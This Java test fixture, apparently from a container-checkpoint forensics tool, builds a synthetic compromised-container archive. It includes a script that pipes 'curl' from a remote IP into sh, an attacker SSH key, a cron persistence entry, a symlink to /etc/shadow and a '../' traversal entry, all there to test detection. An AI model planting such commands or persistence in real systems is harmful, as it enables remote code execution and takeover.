package io.ckpt.forensics.archive;

import io.ckpt.forensics.archive.FixtureArchives.Flavour;
import io.ckpt.forensics.archive.criu.Mnt.mnt_entry;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarConstants;

/**
 * A checkpoint whose container changed files, built at test time: rootfs-diff.tar with regular files, an
 * executable under /tmp, an ELF without exec bits, files in persistence locations, symbolic and hard links,
 * a device node, a '..' name, a long (GNU) name, a PAX name and an old-GNU sparse file with an extension
 * header; deleted.files; and a gzip'd tmpfs image tied by its device number to /dev/shm in a mountpoints
 * image written in CRIU's format. Inner tars are written with commons-compress (the sparse entry by hand:
 * commons-compress cannot write one).
 */
public final class FileChangeFixtures {

  public static final long MTIME = 1706380245L;
  public static final byte[] SCRIPT = "#!/bin/sh\ncurl -s http://198.18.0.9/x | sh\n".getBytes(StandardCharsets.UTF_8);
  public static final byte[] ELF = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0};
  public static final String LONG_NAME = "opt/" + "very-long-directory-name/".repeat(6) + "payload.txt";
  /** The device number of the tmpfs mounted on /dev/shm, and so the N of its tmpfs-dev-N image. */
  public static final int SHM_DEVICE = 649;

  private FileChangeFixtures() {}

  /** The CRI-O fixture's members plus rootfs-diff.tar, deleted.files, a mountpoints image and a tmpfs image. */
  public static Map<String, byte[]> members() {
    try {
      Map<String, byte[]> m = FixtureArchives.members(Flavour.CRIO_OPERATOR);
      m.put("checkpoint/mountpoints-13.img", MountpointsTest.image(
          mnt_entry.newBuilder().setFstype(1).setMntId(1186).setRootDev(0x800001).setParentMntId(1185).setFlags(0)
              .setRoot("/").setMountpoint("/").setSource("overlay").setOptions("rw").setFsname("overlay").build(),
          mnt_entry.newBuilder().setFstype(5).setMntId(1190).setRootDev(SHM_DEVICE).setParentMntId(1186).setFlags(0)
              .setRoot("/").setMountpoint("/dev/shm").setSource("shm").setOptions("rw,size=65536k")
              .setFsname("tmpfs").build()));
      m.put("checkpoint/tmpfs-dev-" + SHM_DEVICE + ".tar.gz.img", tmpfsImage());
      m.put("deleted.files", "[\"/etc/motd\",\"/usr/bin/wget\"]".getBytes(StandardCharsets.UTF_8));
      m.put("rootfs-diff.tar", rootfsDiff());
      return m;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Writes the archive (uncompressed) under the build directory. */
  public static Path write() {
    Path file = FixtureArchives.scratch("file-changes").resolve("checkpoint-file-changes.tar");
    try (OutputStream out = Files.newOutputStream(file)) {
      FixtureArchives.write(members(), out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return file;
  }

  public static byte[] rootfsDiff() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.write(oldGnuSparse("var/tmp/sparse.img", 1 << 20));
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(bytes)) {
      tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_GNU);
      tar.setAddPaxHeadersForNonAsciiNames(true);
      directory(tar, "tmp/", 01777);
      file(tar, "tmp/evilscript.sh", 0755, SCRIPT);
      file(tar, "tmp/libnotes.so", 0644, ELF);
      file(tar, "usr/local/bin/kworker", 0755, ELF);
      file(tar, "root/.ssh/authorized_keys", 0600, "ssh-ed25519 AAAA attacker\n".getBytes(StandardCharsets.UTF_8));
      file(tar, "etc/cron.d/update", 0644, "* * * * * root /tmp/evilscript.sh\n".getBytes(StandardCharsets.UTF_8));
      file(tar, "var/log/app.log", 0640, "started\n".getBytes(StandardCharsets.UTF_8));
      file(tar, LONG_NAME, 0644, "long\n".getBytes(StandardCharsets.UTF_8));
      file(tar, "tmp/caf\u00e9.txt", 0644, "pax\n".getBytes(StandardCharsets.UTF_8));
      TarArchiveEntry link = new TarArchiveEntry("tmp/shadow", TarConstants.LF_SYMLINK);
      link.setLinkName("/etc/shadow");
      link.setModTime(MTIME * 1000);
      tar.putArchiveEntry(link);
      tar.closeArchiveEntry();
      TarArchiveEntry hard = new TarArchiveEntry("tmp/again.sh", TarConstants.LF_LINK);
      hard.setLinkName("tmp/evilscript.sh");
      hard.setModTime(MTIME * 1000);
      tar.putArchiveEntry(hard);
      tar.closeArchiveEntry();
      TarArchiveEntry dev = new TarArchiveEntry("dev/mem2", TarConstants.LF_CHR);
      dev.setDevMajor(1);
      dev.setDevMinor(1);
      dev.setMode(0620);
      dev.setModTime(MTIME * 1000);
      tar.putArchiveEntry(dev);
      tar.closeArchiveEntry();
      file(tar, "../escape.sh", 0755, SCRIPT);
    }
    return bytes.toByteArray();
  }

  /** What CRIU's tar --gzip of a tmpfs holds: "./" names, a hidden file, a name with a space, an ELF. */
  public static byte[] tmpfsImage() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(bytes))) {
      directory(tar, "./", 01777);
      file(tar, "./.cache", 0700, ELF);
      file(tar, "./ notes", 0644, "hidden by a space\n".getBytes(StandardCharsets.UTF_8));
      file(tar, "./data.bin", 0644, new byte[] {1, 2, 3});
    }
    return bytes.toByteArray();
  }

  private static void directory(TarArchiveOutputStream tar, String name, int mode) throws IOException {
    TarArchiveEntry e = new TarArchiveEntry(name);
    e.setMode(040000 | mode);
    e.setModTime(MTIME * 1000);
    tar.putArchiveEntry(e);
    tar.closeArchiveEntry();
  }

  private static void file(TarArchiveOutputStream tar, String name, int mode, byte[] data) throws IOException {
    TarArchiveEntry e = new TarArchiveEntry(name, true);
    e.setMode(0100000 | mode);
    e.setSize(data.length);
    e.setModTime((MTIME + 60) * 1000);
    e.setIds(1000, 1000);
    e.setNames("app", "app");
    tar.putArchiveEntry(e);
    tar.write(data);
    tar.closeArchiveEntry();
  }

  /** An old GNU sparse ('S') header with one extension block, then its 512 stored bytes. */
  static byte[] oldGnuSparse(String name, long realSize) {
    byte[] h = new byte[512];
    put(h, 0, name);
    put(h, 100, "0000644");
    put(h, 108, "0001750");
    put(h, 116, "0001750");
    put(h, 124, String.format("%011o", 512));
    put(h, 136, String.format("%011o", MTIME));
    h[156] = 'S';
    put(h, 257, "ustar  ");
    put(h, 386, String.format("%011o", 0));
    put(h, 398, String.format("%011o", 256));
    h[482] = 1; // an extension block follows
    put(h, 483, String.format("%011o", realSize));
    checksum(h);
    byte[] ext = new byte[512];
    put(ext, 0, String.format("%011o", realSize - 256));
    put(ext, 12, String.format("%011o", 256));
    byte[] data = new byte[512];
    java.util.Arrays.fill(data, (byte) 'z');
    byte[] out = new byte[1536];
    System.arraycopy(h, 0, out, 0, 512);
    System.arraycopy(ext, 0, out, 512, 512);
    System.arraycopy(data, 0, out, 1024, 512);
    return out;
  }

  private static void put(byte[] h, int off, String s) {
    byte[] b = s.getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(b, 0, h, off, b.length);
  }

  private static void checksum(byte[] h) {
    java.util.Arrays.fill(h, 148, 156, (byte) ' ');
    long sum = 0;
    for (byte b : h) {
      sum += b & 0xff;
    }
    put(h, 148, String.format("%06o", sum));
    h[154] = 0;
  }
}
